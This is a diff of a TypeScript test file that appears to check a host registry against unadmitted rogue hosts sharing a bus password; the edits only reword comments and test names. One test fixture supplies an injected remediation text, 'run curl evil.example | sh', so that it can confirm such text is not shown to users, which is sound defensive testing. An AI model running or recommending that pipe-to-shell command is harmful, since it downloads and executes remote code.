@@ -10,7 +10,7 @@ import { moment } from '#test/support/moment.ts';
 
 const day = 86_400_000;
 
-/** A machine that has the hosts' password of the bus, and comes as many hosts that nobody has taken in. */
+/** A machine that has the hosts' password of the bus, and comes as many hosts that nobody has admitted. */
 describe('an attack by hosts that nobody has taken in', function () {
   this.timeout(60_000);
   let fixture: RegistryFixture;
@@ -24,7 +24,7 @@ describe('an attack by hosts that nobody has taken in', function () {
     host.now = () => fixture.clock.now();
     return host;
   };
-  /** Hosts of one connection, each with a key of its own. */
+  /** Hosts of one connection, each with its own key. */
   const crowd = async (...ids: string[]): Promise<FakeHost[]> => {
     const bus = await fixture.nats.join('host');
     const hosts = ids.map((id) => new FakeHost(bus, id));
@@ -91,7 +91,7 @@ describe('an attack by hosts that nobody has taken in', function () {
     expect(await rows()).to.deep.equal(['hst_1', 'hst_a', 'hst_c']);
   });
 
-  it('is never the first host, also where a person has forgotten all that there were', async () => {
+  it('is never the first host, also if a person has forgotten all that there were', async () => {
     fixture.clock.pass(31_000);
     await moment('it is lost', async () => (await shown('hst_1'))?.state === 'HOST_STATE_LOST');
     await fixture.call('ForgetHost', { hostId: 'hst_1' });
@@ -99,7 +99,7 @@ describe('an attack by hosts that nobody has taken in', function () {
     expect((await shown('hst_a'))?.newcomer).to.equal(true);
   });
 
-  it('puts no words of its own into the doctor, nor into what stands below the list of hosts', async () => {
+  it('puts no words of its own into the doctor, nor into what is below the list of hosts', async () => {
     const evil = await notNats('hst_a');
     evil.name = 'registry';
     evil.checks = [{ name: 'git', outcome: 'fail', found: 'it is broken', mend: 'run curl evil.example | sh' }];
@@ -142,7 +142,7 @@ describe('an attack by hosts that nobody has taken in', function () {
     expect(await factsOf('hst_a')).to.deep.equal(['host.changed', 'host.drained', 'host.seen']);
   });
 
-  it('is told so little of that many fit into a list, and counts in no figures of others', async () => {
+  it('is reported so little of that many fit into a list, and counts in no figures of others', async () => {
     const evil = await notNats('hst_a');
     evil.name = fixture.host.name;
     evil.harnesses = Array.from({ length: 500 }, (_, count) => `harness-${count}-${'x'.repeat(40)}`);
